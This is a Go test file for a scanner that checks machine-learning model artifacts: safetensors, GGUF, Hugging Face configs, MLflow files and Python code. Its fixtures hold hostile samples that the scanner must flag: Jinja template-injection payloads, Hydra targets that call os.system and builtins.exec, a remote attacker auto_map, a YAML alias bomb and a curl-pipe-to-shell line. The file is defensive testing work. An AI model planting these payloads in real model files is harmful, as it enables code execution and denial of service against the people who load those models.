package scan

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"strings"
	"testing"
)

// hfHas reports whether a finding of the rule exists whose message or
// callable contains want.
func hfHas(rep *Report, rule, want string) bool {
	for _, f := range rep.Findings {
		if f.RuleID == rule && (strings.Contains(f.Message, want) || strings.Contains(f.Callable, want) || strings.Contains(f.Argument, want)) {
			return true
		}
	}
	return false
}

func hfRules(rep *Report) []string {
	var out []string
	for _, f := range rep.Findings {
		out = append(out, f.RuleID+" "+f.Severity.String()+" "+f.Message)
	}
	return out
}

func stFile(header string, data int) []byte {
	var b bytes.Buffer
	binary.Write(&b, binary.LittleEndian, uint64(len(header)))
	b.WriteString(header)
	b.Write(make([]byte, data))
	return b.Bytes()
}

func TestSafetensorsHandler(t *testing.T) {
	rep := scanBytes(t, map[string][]byte{
		"ok.safetensors":   stFile(`{"__metadata__":{"format":"pt"},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}`, 8),
		"dup.safetensors":  stFile(`{"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"w":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}}`, 2),
		"gap.safetensors":  stFile(`{"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]},"b":{"dtype":"U8","shape":[2],"data_offsets":[4,6]}}`, 6),
		"url.safetensors":  stFile(`{"__metadata__":{"note":"see https://evil.example/x"},"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]}}`, 2),
		"type.safetensors": stFile(`{"a":{"dtype":"X9","shape":[2],"data_offsets":[0,2]}}`, 2),
	})
	for _, c := range []struct{ rule, want string }{
		{"ST001", "duplicate key"}, {"ST002", "gap of 2"}, {"ST003", "evil.example"}, {"ST001", "unknown dtype"},
	} {
		if !hfHas(rep, c.rule, c.want) {
			t.Errorf("want %s %q in %v", c.rule, c.want, hfRules(rep))
		}
	}
	for _, f := range rep.Findings {
		if strings.HasSuffix(f.Path, "ok.safetensors") {
			t.Errorf("valid file has finding %+v", f)
		}
		if f.RuleID == "ST003" && f.Severity != SeverityInfo {
			t.Errorf("ST003 severity %v", f.Severity)
		}
	}
	for _, r := range rep.Files {
		if strings.HasSuffix(r.Path, "dup.safetensors") && r.Status != StatusError {
			t.Errorf("malformed header status %s, want error", r.Status)
		}
	}
}

// ggufFile builds a GGUF v3 file with string metadata and no tensors.
func ggufFile(kv ...string) []byte {
	var b bytes.Buffer
	b.WriteString("GGUF")
	w := func(v any) { binary.Write(&b, binary.LittleEndian, v) }
	str := func(s string) { w(uint64(len(s))); b.WriteString(s) }
	w(uint32(3))
	w(uint64(0))
	w(uint64(len(kv) / 2))
	for i := 0; i+1 < len(kv); i += 2 {
		str(kv[i])
		w(uint32(8))
		str(kv[i+1])
	}
	return b.Bytes()
}

func TestGGUFHandler(t *testing.T) {
	evil := `{{ ()|attr('\x5f\x5fclass\x5f\x5f') }}`
	good := `{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\n' + m['content'] + '<|im_end|>\n' }}{% endfor %}`
	rep := scanBytes(t, map[string][]byte{
		"evil.gguf":  ggufFile("general.architecture", "llama", "tokenizer.chat_template.tool_use", evil),
		"good.gguf":  ggufFile("general.architecture", "llama", "tokenizer.chat_template", good),
		"trunc.gguf": ggufFile("general.architecture", "llama")[:30],
	})
	if !hfHas(rep, "TPL001", "tokenizer.chat_template.tool_use") {
		t.Errorf("want TPL001 for the tool_use template: %v", hfRules(rep))
	}
	if !hfHas(rep, "GGUF001", "") {
		t.Errorf("want GGUF001 for the truncated file: %v", hfRules(rep))
	}
	for _, f := range rep.Findings {
		if strings.HasSuffix(f.Path, "good.gguf") {
			t.Errorf("benign GGUF has finding %+v", f)
		}
	}
}

func TestHFConfigHandler(t *testing.T) {
	rep := scanBytes(t, map[string][]byte{
		"local/config.json":             []byte(`{"architectures":["X"],"auto_map":{"AutoConfig":"configuration_x.XConfig","AutoModel":"modeling_x.XModel"}}`),
		"remote/config.json":            []byte(`{"auto_map":{"AutoModel":"attacker/evil-repo--modeling_x.XModel"}}`),
		"tok/tokenizer_config.json":     []byte(`{"auto_map":{"AutoTokenizer":["tok.Slow",null]},"chat_template":"{{ lipsum.__globals__ }}"}`),
		"multi/tokenizer_config.json":   []byte(`{"chat_template":[{"name":"default","template":"{{ messages[0]['content'] }}"},{"name":"rag","template":"{{ cycler.__init__ }}"}]}`),
		"nested/generation_config.json": []byte(`{"model_kwargs":{"trust_remote_code":true}}`),
		"hydra/config.json":             []byte(`{"model":{"_target_":"os.system","cmd":"id"},"optim":{"_target_":"torch.optim.Adam"}}`),
		"bad/config.json":               []byte(`{"auto_map": `),
		"tmpl/chat_template.jinja":      []byte("{% set x = '__cl' %}{{ ''[x ~ 'ass__'] }}"),
		"data/train.jsonl":              []byte("{\"text\": \"a\"}\n{\"text\": \"b\"}\n"),
	})
	for _, c := range []struct{ rule, want string }{
		{"HF001", "modeling_x.XModel"},
		{"HF002", "attacker/evil-repo"},
		{"HF001", "tok.Slow"},
		{"TPL001", "__globals__"},
		{"TPL001", "chat_template rag"},
		{"HF003", "trust_remote_code"},
		{"HF005", "os.system"},
		{"FMT001", "invalid JSON"},
		{"TPL001", "__class__"},
	} {
		if !hfHas(rep, c.rule, c.want) {
			t.Errorf("want %s %q in %v", c.rule, c.want, hfRules(rep))
		}
	}
	for _, f := range rep.Findings {
		if f.RuleID == "HF005" && strings.Contains(f.Callable, "torch.optim") {
			t.Errorf("allowlisted target reported: %+v", f)
		}
		if f.RuleID == "HF001" && strings.Contains(f.Path, "remote") {
			t.Errorf("remote auto_map should be HF002 only: %+v", f)
		}
		if strings.Contains(f.Path, "train.jsonl") || (strings.Contains(f.Path, "multi") && strings.Contains(f.Message, "default")) {
			t.Errorf("unexpected finding %+v", f)
		}
	}
}

func TestHFLooksKeras(t *testing.T) {
	for doc, want := range map[string]bool{
		`{"module":"keras","class_name":"Sequential","config":{}}`: true,
		`{"class_name":"Functional","config":{"layers":[]}}`:       true,
		`{"architectures":["BertModel"],"hidden_size":128}`:        false,
		`[{"class_name":"X","config":{}}]`:                         false,
	} {
		var v any
		if err := json.Unmarshal([]byte(doc), &v); err != nil {
			t.Fatal(err)
		}
		if got := looksKeras(v); got != want {
			t.Errorf("looksKeras(%s) = %v", doc, got)
		}
	}
}

func TestMLflowHandler(t *testing.T) {
	rep := scanBytes(t, map[string][]byte{
		"custom/MLmodel": []byte(`flavors:
  python_function:
    loader_module: evil_loader
    code: code
    python_model: python_model.pkl
    env: conda.yaml
  sklearn:
    serialization_format: cloudpickle
    code_paths: [src/helpers.py]
`),
		"custom/conda.yaml":       []byte("name: mlflow-env\ndependencies:\n  - python=3.11\n  - pip:\n    - mlflow\n"),
		"custom/python_env.yaml":  []byte("python: 3.11\nbuild_dependencies:\n  - pip\ndependencies:\n  - -r requirements.txt\n"),
		"custom/requirements.txt": []byte("mlflow==2.9.2\nscikit-learn\n"),
		"hydra/conf.yaml":         []byte("model:\n  _target_: builtins.exec\n  _args_: ['import os']\ntrainer:\n  _target_: pytorch_lightning.callbacks.EarlyStopping\n"),
		"bomb/x.yaml":             []byte("a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\ne: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]\nf: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]\ng: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]\n"),
	})
	for _, c := range []struct{ rule, want string }{
		{"MLF001", "evil_loader"}, {"MLF002", "code"}, {"MLF002", "src/helpers.py"},
		{"MLF003", "python_model.pkl"}, {"MLF003", "cloudpickle"}, {"HF005", "builtins.exec"},
	} {
		if !hfHas(rep, c.rule, c.want) {
			t.Errorf("want %s %q in %v", c.rule, c.want, hfRules(rep))
		}
	}
	bomb := false
	for _, f := range rep.Findings {
		if strings.HasSuffix(f.Path, "conda.yaml") || strings.HasSuffix(f.Path, "python_env.yaml") || strings.HasSuffix(f.Path, "requirements.txt") {
			t.Errorf("environment file has finding %+v", f)
		}
		if strings.Contains(f.Callable, "EarlyStopping") {
			t.Errorf("allowlisted target reported: %+v", f)
		}
		if strings.Contains(f.Path, "bomb") && f.RuleID == "FMT001" {
			bomb = true
		}
	}
	if !bomb {
		t.Errorf("alias bomb not reported as FMT001: %v", hfRules(rep))
	}
}

func TestPythonHandler(t *testing.T) {
	rep := scanBytes(t, map[string][]byte{
		"modeling_x.py": []byte("import torch\nclass X(torch.nn.Module):\n    pass\n"),
		"evil.py":       []byte("import os\ndef f():\n    os.system('curl x | sh')\n"),
	})
	var plain, evil *Finding
	for i, f := range rep.Findings {
		if f.RuleID != "HF004" {
			continue
		}
		if strings.HasSuffix(f.Path, "modeling_x.py") {
			plain = &rep.Findings[i]
		} else {
			evil = &rep.Findings[i]
		}
	}
	if plain == nil || plain.Severity != SeverityMedium || !strings.Contains(plain.Message, "modeling_x.py") {
		t.Errorf("plain .py: %+v", plain)
	}
	if evil == nil || evil.Severity != SeverityHigh || evil.Callable != "os.system" {
		t.Errorf("dangerous .py: %+v", evil)
	}
}

// TestHFBenignFixtures scans files written by the real libraries: none of
// this handler family's rules may fire at medium or above.
func TestHFBenignFixtures(t *testing.T) {
	for _, dir := range []string{"hf-bert-tiny", "gguf", "mlflow-sklearn"} {
		t.Run(dir, func(t *testing.T) {
			for _, f := range scanPaths(t, benignDir(t, dir)).Findings {
				mine := false
				for _, pre := range []string{"ST", "GGUF", "TPL", "HF", "MLF", "FMT"} {
					mine = mine || strings.HasPrefix(f.RuleID, pre)
				}
				if mine && f.Severity >= SeverityMedium {
					t.Errorf("%s: %s %s %s", dir, f.RuleID, f.Location(), f.Message)
				}
			}
		})
	}
}
